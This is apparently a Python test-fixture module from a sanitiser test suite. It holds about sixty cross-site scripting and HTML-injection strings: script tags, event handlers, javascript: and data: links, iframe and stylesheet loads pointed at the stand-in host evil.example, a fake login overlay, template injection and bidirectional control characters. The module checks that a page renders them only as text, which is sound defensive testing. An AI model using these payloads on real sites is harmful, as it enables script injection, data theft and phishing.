"""Sixty texts that would run, load or hide something if a page took them at their word.

Each tries to set ``window.hacked`` or to fetch from ``evil.example``, or to pretend to
be a part of the page. None of them may be anything but text.
"""

_RUN = "window.hacked=1"
_OUT = "//evil.example/x"

SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src={_OUT}></script>",
    f"<script/x>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
)

HANDLERS = (
    f'<img src=x onerror="{_RUN}">',
    f"<img src=x onerror={_RUN}//",
    f'<img src="x:x" onerror="{_RUN}">',
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<div style=animation-name:x onanimationstart={_RUN}>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus='",
    f"` onmouseover=`{_RUN}`",
    f'"><img src=x onerror={_RUN}>',
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
)

LINKS = (
    f"<a href=javascript:{_RUN}>点这里</a>",
    f"<a href=JaVaScRiPt:{_RUN}>点这里</a>",
    f"<a href='java\tscript:{_RUN}'>点这里</a>",
    f"[点这里](javascript:{_RUN})",
    f"[点这里](data:text/html,<script>{_RUN}</script>)",
    f"[点这里]: javascript:{_RUN}",
    f"<javascript:{_RUN}>",
    f"![图](http:{_OUT}.png)",
    f'![图](x "a" onerror="{_RUN}")',
    f"http:{_OUT}",
    f"<base href=http:{_OUT}>",
    f"<area href=javascript:{_RUN}>",
)

LOADS = (
    f"<iframe src=javascript:{_RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<link rel=stylesheet href=http:{_OUT}.css>",
    f"<style>@import 'http:{_OUT}.css';</style>",
    f"<style>*{{background:url(http:{_OUT}.png)}}</style>",
    f"<meta http-equiv=refresh content='0;url=http:{_OUT}'>",
    f"<form action=http:{_OUT}><button name=open value=cite-0-1>交出</button></form>",
    f"<img srcset='http:{_OUT}.png 2x'>",
)

PRETENCES = (
    '<button type="button" name="remove" value="all">逐字引用 ✓</button>',
    '<div style="position:fixed;inset:0;z-index:9999">请登录</div>',
    "$$\\href{javascript:window.hacked=1}{x}$$ \\(\\unicode{x}\\)",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;&#60;b&#62;",
    "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1} #{7*7}",
    "\u202e出反写\u202c \u2066孤立\u2069 \u200b零宽\u200d \ufeff \x1b[31m红\x1b[0m",
)

HOSTILE = (*SCRIPTS, *HANDLERS, *LINKS, *LOADS, *PRETENCES)
